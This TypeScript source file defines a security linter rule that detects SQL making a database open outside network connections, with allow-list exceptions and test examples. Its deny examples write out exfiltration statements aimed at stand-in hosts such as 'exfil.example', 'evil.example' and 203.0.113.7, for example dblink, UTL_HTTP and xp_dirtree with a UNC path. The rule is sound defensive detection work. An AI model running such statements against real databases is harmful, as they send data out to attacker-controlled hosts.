/** SQL-AST-013: SQL that makes the database open network connections (dblink, UTL_HTTP, xp_dirtree, FEDERATED). */
import { reachingFunctions } from '../../knowledge/sql.js';
import { lakeBucket } from '../../knowledge/sql-own-storage.js';
import { exportsAggregatesOnly } from '../../knowledge/sql-aggregate-export.js';
import { OWN_NETWORK, remoteArgument } from '../../knowledge/sql-remote.js';
import { internalZone } from '../../knowledge/internal-zone.js';
import { defineRule } from '../define-rule.js';

/** Mail procedures that send only what their arguments say (no query result or file attached). */
const MAILERS = new Set(['sp_send_dbmail', 'xp_sendmail']);
const MAIL_ARG = /@(\w+)\s*=\s*(N?'(?:[^']|'')*'|-?\d+|\S+)/gi;
const CARRIES_DATA =
  /^(?:query|file_attachments|attach_query_result_as_file|attachments|execute_query_database)$/i;

/**
 * A status mail with a fixed text (r5 FP: `sp_send_dbmail @recipients = 'oncall@acme.com', @body =
 * 'OK'`): every argument a literal and none that attaches a query result or a file. A variable,
 * an expression or @query can carry the database's data out.
 */
function fixedMail(text: string): boolean {
  const call = /\b(?:sp_send_dbmail|xp_sendmail)\b([\s\S]*)$/i.exec(text);
  if (!call || /\b(?:select|from|declare|exec(?:ute)?)\b/i.test(call[1]!)) return false;
  let args = 0;
  for (const m of call[1]!.matchAll(MAIL_ARG)) {
    args++;
    if (CARRIES_DATA.test(m[1]!) || !/^(?:N?'|-?\d)/.test(m[2]!)) return false;
  }
  // Everything after the procedure is `@name = literal` pairs and commas.
  return args > 0 && call[1]!.replace(MAIL_ARG, '').replace(/[\s,;]/g, '') === '';
}

/**
 * pgsql-http GET of one literal https URL by name, nothing else in the statement (r6 FP: reference
 * data fetched; R15: exchange rates with a literal query string): no table data can ride along.
 * POSTs, IPs and built URLs stay denied.
 */
const FIXED_GET =
  /^\s*select\s+(?:[\w.*,\s]+\s+from\s+)?(?:\w+\.)?http_get\s*\(\s*'https:\/\/(?![\d.]+[/:']|\[)[a-z0-9-]+(?:\.[a-z0-9-]+)+(?:\/[\w./-]*)?(?:\?[\w.~%=&+-]*)?'\s*\)(?:\s+(?:as\s+)?\w+)?\s*;?\s*$/i;

/**
 * A ClickHouse SELECT from one literal https file by url() (R19 FP: a public dataset read): the
 * server fetches that file, and nothing of its tables rides along. Built URLs, several calls and
 * INSERT INTO FUNCTION url(...) (an upload) stay denied.
 */
const URL_READ =
  /^\s*select\s[^;]*?\bfrom\s+url\s*\(\s*'https:\/\/(?![\d.]+[/:']|\[)[a-z0-9-]+(?:\.[a-z0-9-]+)+(?:\/[\w./-]*)?'\s*,\s*'\w+'(?:\s*,\s*'[\w\s,]*')?\s*\)[^;]*;?\s*$/i;

function readsOneUrl(text: string): boolean {
  return URL_READ.test(text) && (text.match(/\burl\s*\(/gi)?.length ?? 0) === 1 && !/\binsert\b/i.test(text);
}

/**
 * Snowflake API integrations and external functions (red team r7): every call sends its arguments
 * to the API Gateway or proxy named, outside the account.
 */
const EXTERNAL_API =
  /^\s*(?:create|alter)\s+(?:or\s+replace\s+)?(?:secure\s+)?(?:api\s+integration|external\s+function)\b/i;

/**
 * pg_net / pgsql-http calls of the project's own Supabase edge functions only (r7 FP: a trigger
 * posting a row id to https://<ref>.supabase.co/functions/v1/send-email).
 */
const OWN_EDGE_FUNCTION = /^'https:\/\/[a-z0-9]{6,40}\.supabase\.co\/functions\/v1\/[\w./-]*'$/;
const URL_LITERAL = /'[a-z][\w+.-]*:\/\/[^']*'/gi;
/**
 * A trigger's notice that carries only the row's keys (R15 twin: `net.http_post(url :=
 * 'https://api.example-corp.com/hooks/order-created', body := jsonb_build_object('id', NEW.id))`):
 * the receiver learns that row n changed and reads it through the API; no column of it leaves.
 * Every URL a literal https host by name; every body value a key, a literal or the trigger's own words.
 */
const BUILT_BODY = /\bjsonb?_build_object\s*\(([^()]*)\)/gi;
const KEY_VALUE = /^(?:(?:new|old)\.["`]?(?:id|uuid|\w+_id)["`]?|'[^']*'|tg_\w+|\d+|now\(\))$/i;
function keysOnlyNotice(raw: string): boolean {
  // Called at the top of a statement (R17 FP: `SELECT net.http_post(url := <Slack webhook>, body :=
  // jsonb_build_object('text', 'nightly import finished'))`): the SELECT runs it once, reading no table.
  const text = raw.replace(/^\s*select\s+(?=(?:\w+\.)?http_post\s*\()/i, '');
  const urls = text.match(URL_LITERAL) ?? [];
  if (
    urls.length === 0 ||
    !urls.every((u) => /^'https:\/\/(?![\d.]+[/:']|\[)[a-z0-9.-]+\.[a-z]{2,}[/']/i.test(u))
  )
    return false;
  if (
    /\b(?:row_to_json|to_jsonb?|select|from|current_setting)\b|\b(?:new|old)\s*\.\s*\*|\bbody\s*:=(?!\s*jsonb?_build_object\b)/i.test(
      text,
    )
  )
    return false;
  let bodies = 0;
  for (const m of text.matchAll(BUILT_BODY)) {
    bodies++;
    const items = m[1]!.split(',').map((x) => x.trim());
    if (items.length % 2 !== 0 || !items.every((x) => KEY_VALUE.test(x))) return false;
  }
  return bodies > 0;
}

function onlyEdgeFunctions(text: string): boolean {
  const urls = text.match(URL_LITERAL) ?? [];
  return urls.length > 0 && urls.every((u) => OWN_EDGE_FUNCTION.test(u.toLowerCase()));
}

/**
 * MySQL CHANGE REPLICATION SOURCE / CHANGE MASTER TO ... HOST, PostgreSQL CREATE SUBSCRIPTION ...
 * CONNECTION 'host=...' (red team r6): the database pulls and applies another server's writes.
 */
const REPLICA_OF =
  /^\s*(?:change\s+(?:replication\s+source|master)\s+to\b[^;]*?\b(?:source|master)_host\s*=\s*['"]([^'"]+)['"]|create\s+subscription\b[^;]*?\bconnection\s+'[^']*?\bhost\s*=\s*([^\s']+))/i;
/**
 * pgsql-http's general call (red team r9): `http(('POST', url, headers, type, body)::http_request)`
 * sends whatever the request tuple carries.
 */
/** A GET of one literal https URL whose tuple holds only literals and NULLs: reference data fetched. */
const HTTP_FIXED_GET =
  /\bhttp\s*\(\s*\(\s*'GET'\s*,\s*'https:\/\/[^'?]*'\s*(?:,\s*(?:null|'[^']*'))*\s*\)\s*::\s*(?:\w+\.)?http_request\s*\)/i;
const HTTP_REQUEST = /\bhttp\s*\(\s*\(|::\s*(?:\w+\.)?http_request\b|\bhttp_request\s*\(/i;
/**
 * SQL Server `EXEC ('...' + (SELECT ...) + '...') AT linked_server` (red team r9): the command run
 * on the other server is built from this one's data, so the data goes with it. A fixed command
 * stays allowed: it only reads over there.
 */
const EXEC_AT_BUILT =
  /^\s*exec(?:ute)?\s*\((?=[^;]*?\+\s*(?:\(\s*select\b|@\w|cast\s*\(|convert\s*\())[\s\S]*\)\s*at\s+(\[[^\]]+\]|[\w.]+)\s*;?\s*$/i;

/** dblink calls (any of its functions) and the literal first argument of each, when literal. */
const DBLINK_CALL = /\bdblink\w*\s*\(/gi;
const DBLINK_FIRST = /\bdblink\w*\s*\(\s*'([^']*)'\s*[,)]/gi;
/** dblink_connect('name', 'conninfo'): a named connection the later calls use by its name. */
const DBLINK_NAMED = /\bdblink_connect(?:_u)?\s*\(\s*'([^'=]*)'\s*,\s*'([^']*)'\s*\)/gi;

/** A literal connection string whose hosts are all of the own network, or none (this server's socket). */
function ownConninfo(info: string): boolean {
  const pairs = [...info.matchAll(/(\w+)\s*=\s*(\S+)/g)];
  if (pairs.length === 0 || info.replace(/(\w+)\s*=\s*(\S+)/g, '').trim() !== '') return false;
  return pairs.every(([, k, v]) => !/^(?:host|hostaddr)$/i.test(k!) || v!.split(',').every(internalHost));
}

/**
 * Every dblink call names its server in a literal connection string of the own network (R10 twin:
 * `dblink('host=replica.internal dbname=app', ...)`), or by the name of a connection the batch
 * opened to one (r11 twin: `dblink_connect('rep', 'host=replica-1.acme.internal ...')` then
 * `dblink('rep', ...)`): the query runs on a sibling database, as a foreign server there may.
 */
function dblinkOwnNetwork(text: string, batch: readonly string[]): boolean {
  const named = new Map<string, boolean>();
  for (const t of batch)
    if (/\bdblink_connect/i.test(t))
      for (const m of t.matchAll(DBLINK_NAMED))
        named.set(m[1]!, (named.get(m[1]!) ?? true) && ownConninfo(m[2]!));
  const firsts = [...text.matchAll(DBLINK_FIRST)].map((m) => m[1]!);
  if (firsts.length === 0 || firsts.length !== (text.match(DBLINK_CALL) ?? []).length) return false;
  return firsts.every((first) => (first.includes('=') ? ownConninfo(first) : named.get(first) === true));
}

/** A bare host of the operator's network (not a URL, a wrapper name, or the metadata service). */
const internalHost = (host: string): boolean =>
  (OWN_NETWORK.test(host) || internalZone(host)) && !/^(?:federated|metadata\b.*|a)$/i.test(host);

export default defineRule({
  id: 'SQL-AST-013',
  invariant: 'NO_SQL_EXFILTRATION',
  kinds: ['sql'],
  summary:
    'dblink/dblink_exec, UTL_HTTP/UTL_INADDR/UTL_TCP, HTTPURITYPE, xp_dirtree/xp_fileexist (UNC), url(), FEDERATED tables, foreign servers (CREATE SERVER ... postgres_fdw/mysql) and database links; replication from a server outside the own network (CHANGE REPLICATION SOURCE/MASTER TO, CREATE SUBSCRIPTION); any call or engine given a UNC path or host:port outside.',
  remediationHint:
    'Do not make the database connect to other hosts. Query each database directly through the application with its own credentials, and move data through the workspace.',
  *check(facts) {
    const texts = facts.of('sql').map((s) => s.text);
    for (const s of facts.of('sql')) {
      const replica = REPLICA_OF.exec(s.text);
      const source = replica?.[1] ?? replica?.[2];
      if (source !== undefined && !OWN_NETWORK.test(source)) {
        yield {
          span: s.span,
          reason: `the database replicates from ${source}, a server outside its own network, and applies that server's writes to its tables`,
          suggestedAlternative: null,
        };
        continue;
      }
      if (EXTERNAL_API.test(s.text)) {
        yield {
          span: s.span,
          reason:
            'an API integration or external function sends the data it is called with to an outside endpoint',
          suggestedAlternative: null,
        };
        continue;
      }
      // A foreign server, link or subscription to a host of the own network (r9 FP: postgres_fdw to
      // reporting-db.internal): nothing leaves the network. FEDERATED URLs and client pipes stay denied.
      if (s.connectsTo !== undefined && !(s.statement === 'create' && internalHost(s.connectsTo))) {
        yield {
          span: s.span,
          reason:
            s.object === 'client pipe'
              ? `the SQL client pipes every later query result to a program that sends it to ${s.connectsTo}`
              : s.connectsTo === 'FEDERATED' || s.connectsTo.includes('://')
                ? 'a FEDERATED table makes the database connect to a remote server'
                : `the statement makes the database connect to ${s.connectsTo} (foreign server or database link)`,
          suggestedAlternative: null,
        };
        continue;
      }
      const linked = EXEC_AT_BUILT.exec(s.text);
      if (linked) {
        yield {
          span: s.span,
          reason: `EXEC ... AT ${linked[1]!} runs a command built from this database's data on a linked server`,
          suggestedAlternative: null,
        };
        continue;
      }
      if (
        s.functions.includes('http') &&
        HTTP_REQUEST.test(s.text) &&
        !onlyEdgeFunctions(s.text) &&
        !(HTTP_FIXED_GET.test(s.text) && (s.text.match(/\bhttp\s*\(/gi)?.length ?? 0) === 1)
      ) {
        yield {
          span: s.span,
          reason: 'pgsql-http http() makes the database send a request with what the request tuple carries',
          suggestedAlternative: null,
        };
        continue;
      }
      // A UNC path or host:port outside handed to any function or engine (red team r8).
      const remote = remoteArgument(s.text);
      if (remote !== undefined) {
        yield {
          span: s.span,
          reason: `an argument names ${remote}, a host outside the database's network, so the server connects there`,
          suggestedAlternative: null,
        };
        continue;
      }
      const nets = reachingFunctions(s.functions, s.qualifiedFunctions ?? []).filter(
        (x) => x.reach === 'network',
      );
      const f = nets[0];
      if (f && nets.every((x) => MAILERS.has(x.name.slice(x.name.lastIndexOf('.') + 1))) && fixedMail(s.text))
        continue;
      if (f && nets.every((x) => x.name.endsWith('http_get')) && FIXED_GET.test(s.text)) continue;
      if (f && nets.every((x) => x.name === 'url') && readsOneUrl(s.text)) continue;
      if (f && nets.every((x) => /(?:^|\.)dblink\w*$/.test(x.name)) && dblinkOwnNetwork(s.text, texts))
        continue;
      // An S3 export of totals only (r8 FP): what leaves is figures, not rows about anyone.
      if (f && nets.every((x) => x.name.endsWith('query_export_to_s3')) && exportsAggregatesOnly(s.text))
        continue;
      // Through the instance's own IAM role into a bucket named as the owner's lake or export area
      // (R15 twin: `create_s3_uri('acme-prod-exports', ...)`); a drop-named or unowned bucket stays.
      if (
        f &&
        nets.every((x) => /(?:query_export_to_s3|create_s3_uri)$/.test(x.name)) &&
        lakeBucket(/\bcreate_s3_uri\s*\(\s*'([a-z0-9][a-z0-9.-]{1,62})'/i.exec(s.text)?.[1] ?? '')
      )
        continue;
      if (
        f &&
        nets.every((x) => /(?:^|\.)http_(?:get|post)$/.test(x.name)) &&
        (onlyEdgeFunctions(s.text) || keysOnlyNotice(s.text))
      )
        continue;
      if (f)
        yield {
          span: s.span,
          reason: `${f.name} makes the database open a network connection`,
          suggestedAlternative: null,
        };
    }
  },
  examples: {
    deny: [
      {
        input: "select * from dblink('host=203.0.113.7 user=x', 'select secret from t') as t(a text)",
        runtime: 'sql',
      },
      { input: "SELECT UTL_HTTP.REQUEST('http://a1b2.exfil.example') FROM DUAL", runtime: 'sql' },
      { input: "select utl_inaddr.get_host_address('a1b2.exfil.example') from DUAL", runtime: 'sql' },
      { input: "EXEC master..xp_dirtree '\\\\203.0.113.7\\share'", runtime: 'sql' },
      {
        input: "CREATE TABLE f (id INT) ENGINE=FEDERATED CONNECTION='mysql://u:p@203.0.113.7:3306/db/t'",
        runtime: 'sql',
      },
      {
        input:
          "CREATE SERVER evil FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil.example', dbname 'x')",
        runtime: 'sql',
      },
      { input: "CREATE DATABASE LINK l CONNECT TO u IDENTIFIED BY p USING 'evil.example/x'", runtime: 'sql' },
      { input: "SELECT * FROM fn_trace_gettable('\\\\203.0.113.9\\share\\x.trc', DEFAULT)", runtime: 'sql' },
      { input: "CREATE TABLE t ENGINE = MySQL('203.0.113.9:3306', 'db', 'users', 'u', 'p')", runtime: 'sql' },
    ],
    allow: [
      {
        input: 'SELECT UTL_INADDR.GET_HOST_NAME FROM dual',
        runtime: 'sql',
        why: 'the local host name, looked up nowhere',
      },
      {
        input:
          "SELECT net.http_post(url := 'https://hooks.slack.com/services/T000/B000/XXXX', body := jsonb_build_object('text', 'nightly import finished'))",
        runtime: 'sql',
        why: 'a fixed status message, no table read',
      },
      {
        input:
          "CREATE SERVER reporting FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'reporting-db.internal', dbname 'reporting')",
        runtime: 'sql',
        why: 'a server on the own network: nothing leaves it',
      },
      { input: 'SELECT url FROM links WHERE id = 3', runtime: 'sql', why: 'a column named url' },
      {
        input:
          "SELECT * FROM dblink('host=replica.internal dbname=app user=ro', 'SELECT count(*) FROM orders') AS t(n bigint)",
        runtime: 'sql',
        why: 'a sibling database on the own network',
      },
      { input: 'CREATE EXTENSION IF NOT EXISTS pgcrypto', runtime: 'sql', why: 'a local extension' },
      {
        input:
          "EXEC msdb.dbo.sp_send_dbmail @profile_name = 'ops', @recipients = 'oncall@acme.com', @subject = 'nightly job finished', @body = 'OK'",
        runtime: 'sql',
        why: 'a status mail whose every argument is fixed text',
      },
      {
        input: "SELECT * FROM sys.fn_get_audit_file('\\\\fileserver\\audit\\*.sqlaudit', DEFAULT, DEFAULT)",
        runtime: 'sql',
        why: 'a share on the own network',
      },
      {
        input: "INSERT INTO hosts (addr) VALUES ('db.example.com:5432')",
        runtime: 'sql',
        why: 'a host stored as data',
      },
    ],
  },
});
